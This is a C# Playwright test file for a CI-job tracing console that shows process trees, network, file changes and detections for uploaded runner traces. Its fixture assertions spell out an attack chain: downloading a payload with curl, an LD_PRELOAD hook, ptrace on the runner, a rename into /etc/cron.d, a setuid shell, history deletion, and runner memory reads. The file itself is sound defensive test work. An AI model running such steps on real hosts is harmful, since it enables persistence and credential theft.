using Ashiato.Web.Tests.Support;
using Microsoft.Playwright;

namespace Ashiato.Web.Tests.Browser;

[Collection(BrowserCollection.Name)]
[Trait("Category", "browser")]
public sealed class ConsolePagesTests(BrowserFixture browser) : IAsyncLifetime
{
    private RunningConsole _console = null!;
    private IBrowserContext _context = null!;
    private string _jobId = null!;
    private byte[] _trace = null!;

    public async Task InitializeAsync()
    {
        _console = await RunningConsole.StartAsync(RulePackBackends.All());
        _trace = SampleTrace.Gzip(SampleTrace.Demo());
        _jobId = await _console.UploadAndSettleAsync(_console.Client(), _trace, "app build #12", "octo/app");
        _context = await browser.Browser.NewContextAsync(new BrowserNewContextOptions { BaseURL = _console.BaseUrl.ToString(), AcceptDownloads = true });
    }

    public async Task DisposeAsync()
    {
        await _context.DisposeAsync();
        await _console.DisposeAsync();
    }

    [Fact]
    public async Task A_wrong_token_is_refused_and_a_right_one_signs_in_to_the_jobs_list()
    {
        var page = await _context.NewPageAsync();

        await page.GotoAsync("/");
        await page.FillAsync("input[name=token]", "not-a-token-at-all");
        await page.ClickAsync("button[type=submit]");
        await Assertions.Expect(page.GetByRole(AriaRole.Alert)).ToHaveTextAsync("That token is not valid.");

        await SignInAsync(page);
        var row = page.Locator("table.jobs tbody tr");
        await Assertions.Expect(row).ToHaveCountAsync(1);
        await Assertions.Expect(row).ToContainTextAsync("octo/app");
        await Assertions.Expect(row).ToContainTextAsync("app build #12");
        await Assertions.Expect(row).ToContainTextAsync("2m 10s");
    }

    [Fact]
    public async Task Opening_a_job_shows_its_summary_and_each_tab_answers_its_question()
    {
        var page = await _context.NewPageAsync();
        await SignInAsync(page);

        await page.ClickAsync("text=app build #12");
        await Assertions.Expect(page.Locator("h1")).ToHaveTextAsync("app build #12");
        await Assertions.Expect(page.Locator("#completeness")).ToContainTextAsync("Complete trace");
        await Assertions.Expect(page.Locator("#tab-content")).ToContainTextAsync("3 sensitive");
        await ScreenshotAsync(page, "summary");

        await page.ClickAsync("role=tab[name='Process tree']");
        var runner = page.Locator($"li[data-pid='{SampleTrace.RunnerPid}']");
        await runner.Locator("button.toggle").First.ClickAsync();
        await Assertions.Expect(runner.Locator("li[data-pid='1300'] .args").First).ToHaveTextAsync("bash -e /home/runner/work/_temp/step.sh");
        await runner.Locator("li[data-pid='1300'] button.toggle").First.ClickAsync();
        await runner.Locator("li[data-pid='1301'] >> text=events").First.ClickAsync();
        await Assertions.Expect(runner.Locator("li[data-pid='1301'] .events table").First).ToContainTextAsync("registry.example.org → 104.16.23.35");
        await ScreenshotAsync(page, "process-tree");

        await page.ClickAsync("role=tab[name='Timeline']");
        await Assertions.Expect(page.Locator("svg.chart rect").First).ToBeVisibleAsync();
        await Assertions.Expect(page.Locator(".legend")).ToContainTextAsync("process_exec");
        await ScreenshotAsync(page, "timeline");

        await page.ClickAsync("role=tab[name='Network']");
        await Assertions.Expect(page.Locator("#connections")).ToContainTextAsync("registry.example.org");
        await Assertions.Expect(page.Locator("#dns")).ToContainTextAsync("104.16.23.35");
        await ScreenshotAsync(page, "network");

        await page.ClickAsync("role=tab[name='Files']");
        var sensitive = page.Locator("#files tr.sensitive");
        await Assertions.Expect(sensitive).ToHaveCountAsync(3);
        await Assertions.Expect(sensitive.First).ToContainTextAsync("/home/runner/.netrc");
        await ScreenshotAsync(page, "files");
    }

    [Fact]
    public async Task A_subshell_shows_between_its_script_and_its_children_and_the_files_tab_shows_a_rename()
    {
        var id = await _console.UploadAndSettleAsync(_console.Client(), SampleTrace.GzipLines(SampleTrace.EvidenceLines()), "pid trace", "octo/app");
        var page = await _context.NewPageAsync();
        await SignInAsync(page);

        await page.GotoAsync($"/#/jobs/{id}/processes");
        var worker = page.Locator("li[data-pid='1200']");
        await Assertions.Expect(worker.Locator(".node").First).ToContainTextAsync("running at start");
        await worker.Locator("button.toggle").First.ClickAsync();
        var script = worker.Locator("li[data-pid='1300']");
        await script.Locator("button.toggle").First.ClickAsync();
        var subshell = script.Locator("li[data-pid='1310']");
        await Assertions.Expect(subshell.Locator(".node").First).ToContainTextAsync("forked without exec");
        await subshell.Locator("button.toggle").First.ClickAsync();
        await Assertions.Expect(subshell.Locator("li[data-pid='1311'] .args")).ToHaveTextAsync("curl -so /tmp/x/job https://example.org/job");
        var node = subshell.Locator("li[data-pid='1312'] .node");
        await Assertions.Expect(node.Locator(".env")).ToHaveTextAsync("LD_PRELOAD=/tmp/x/hook.so");
        await Assertions.Expect(node.Locator(".access")).ToHaveTextAsync("ptrace_attach → Runner.Worker (1200)");
        // The tree has one root: nothing hangs under an unknown parent.
        await Assertions.Expect(page.Locator(".tree > ul > li")).ToHaveCountAsync(1);
        await ScreenshotAsync(page, "process-tree-fork");

        await page.ClickAsync("role=tab[name='Files']");
        await page.SelectOptionAsync("select[aria-label='Show']", "changed");
        var renamed = page.Locator("#files tr", new() { HasTextString = "/tmp/x/job" });
        await Assertions.Expect(renamed.Locator(".renamed-to")).ToHaveTextAsync("renamed → /etc/cron.d/job");
        var target = page.Locator("#files tr.sensitive", new() { HasTextString = "/etc/cron.d/job" });
        await Assertions.Expect(target.Locator(".renamed-from")).ToHaveTextAsync("renamed from /tmp/x/job");
        await Assertions.Expect(page.Locator("#files tr", new() { HasTextString = "/tmp/x/sh" }).Locator(".chmod")).ToHaveTextAsync("chmod 4755");
        await Assertions.Expect(page.Locator("#files tr", new() { HasTextString = ".bash_history" }).Locator(".deleted")).ToHaveTextAsync("deleted");
        await ScreenshotAsync(page, "files-changes");
    }

    [Fact]
    public async Task The_runner_memory_read_shows_as_a_detection_with_its_evidence()
    {
        var page = await _context.NewPageAsync();
        await SignInAsync(page);

        var badge = page.Locator("table.jobs tbody tr", new() { HasTextString = "app build #12" }).Locator(".badge.findings");
        await Assertions.Expect(badge).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^\\d+ findings?$"));
        await page.ClickAsync("text=app build #12");
        await page.ClickAsync("role=tab[name='Detections']");

        var finding = page.Locator(".finding[data-rule='runner-memory-read']").First;
        await Assertions.Expect(finding.Locator("h2")).ToContainTextAsync("Runner process memory read");
        await Assertions.Expect(finding.Locator(".badge.high")).ToHaveTextAsync("high");
        await Assertions.Expect(finding.Locator("table.event-list")).ToContainTextAsync($"/proc/{SampleTrace.RunnerPid}/m");
        // The maps and mem reads of one step are one incident, with their timeline.
        var incident = page.Locator("section.incident:has(.finding[data-rule='runner-memory-read'])").First;
        await Assertions.Expect(incident.Locator("ol.timeline")).ToContainTextAsync("memory read: read /proc/");
        await ScreenshotAsync(page, "detections");
    }

    [Fact]
    public async Task Comparing_with_a_picked_baseline_lists_what_is_new()
    {
        await _console.UploadAsync(_console.Client(), SampleTrace.Gzip(SampleTrace.NormalRun()), "app build #11", "octo/app");
        var page = await _context.NewPageAsync();
        await SignInAsync(page);
        await page.GotoAsync($"/#/jobs/{_jobId}/compare");

        await page.Locator("#baseline-jobs label", new() { HasTextString = "app build #11" }).Locator("input").CheckAsync();
        await page.ClickAsync("#run-compare");

        var hosts = page.Locator("#compare-output .panel", new() { HasTextString = "Hosts" });
        await Assertions.Expect(hosts).ToContainTextAsync("github.com");
        await Assertions.Expect(hosts).Not.ToContainTextAsync("registry.example.org");
        await Assertions.Expect(page.Locator("#compare-output")).ToContainTextAsync(".netrc");
        await ScreenshotAsync(page, "compare");
    }

    [Fact]
    public async Task A_trace_with_drops_is_flagged_loudly_in_the_list_and_the_summary()
    {
        var records = SampleTrace.RunnerMemoryRead().ToList();
        records[^1] = new Ashiato.Events.TracerStats
        {
            Timestamp = SampleTrace.Start.AddSeconds(9),
            Events = new Dictionary<Ashiato.Events.EventKind, long>(),
            Dropped = new Dictionary<Ashiato.Events.EventKind, long> { [Ashiato.Events.EventKind.NetConnect] = 17 },
            Truncated = new Ashiato.Events.TruncationCounts(0, 2),
            Final = true,
        };
        await _console.UploadAndSettleAsync(_console.Client(), SampleTrace.Gzip(records), "lossy build");
        var page = await _context.NewPageAsync();
        await SignInAsync(page);

        var row = page.Locator("table.jobs tbody tr", new() { HasTextString = "lossy build" });
        await Assertions.Expect(row.Locator(".badge.incomplete")).ToHaveTextAsync("incomplete");
        await row.Locator("a").ClickAsync();

        var warning = page.Locator("#completeness");
        await Assertions.Expect(warning).ToHaveClassAsync("alert bad");
        await Assertions.Expect(warning).ToContainTextAsync("17 events were dropped by the tracer");
        await Assertions.Expect(warning).ToContainTextAsync("2 arguments or paths were truncated");
        await ScreenshotAsync(page, "summary-incomplete");
    }

    [Fact]
    public async Task The_download_tab_gives_the_trace_byte_for_byte()
    {
        var page = await _context.NewPageAsync();
        await SignInAsync(page);
        await page.GotoAsync($"/#/jobs/{_jobId}/download");

        var download = await page.RunAndWaitForDownloadAsync(() => page.ClickAsync("#download-trace"));
        var saved = Path.Combine(_console.DataDirectory, "downloaded.jsonl.gz");
        await download.SaveAsAsync(saved);

        Assert.Equal($"{_jobId}.jsonl.gz", download.SuggestedFilename);
        Assert.Equal(_trace, await File.ReadAllBytesAsync(saved));
        await ScreenshotAsync(page, "download");
    }

    [Fact]
    public async Task The_jobs_list_searches_and_pages()
    {
        var client = _console.Client();
        for (var i = 0; i < 30; i++)
        {
            await RunningConsole.CreateJobAsync(client, $"nightly #{i}", "octo/lib");
        }
        var page = await _context.NewPageAsync();
        await SignInAsync(page);

        await Assertions.Expect(page.Locator(".pager span")).ToHaveTextAsync("1–25 of 31");
        await ScreenshotAsync(page, "jobs");
        await page.ClickAsync("text=Next →");
        await Assertions.Expect(page.Locator(".pager span")).ToHaveTextAsync("26–31 of 31");
        await page.FillAsync("input[name=q]", "build #12");
        await Assertions.Expect(page.Locator("table.jobs tbody tr")).ToHaveCountAsync(1);
    }

    private async Task SignInAsync(IPage page)
    {
        await page.GotoAsync("/");
        await page.FillAsync("input[name=token]", RunningConsole.AdminToken);
        await page.ClickAsync("button[type=submit]");
        await Assertions.Expect(page.Locator("h1")).ToHaveTextAsync("Jobs");
    }

    /// <summary>Saves the page for the README when ASHIATO_SCREENSHOTS names a folder (docs/screenshots).</summary>
    internal static async Task ScreenshotAsync(IPage page, string name)
    {
        if (Environment.GetEnvironmentVariable("ASHIATO_SCREENSHOTS") is { Length: > 0 } folder)
        {
            await page.SetViewportSizeAsync(1280, 860);
            await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(folder, name + ".png"), FullPage = false });
        }
    }
}
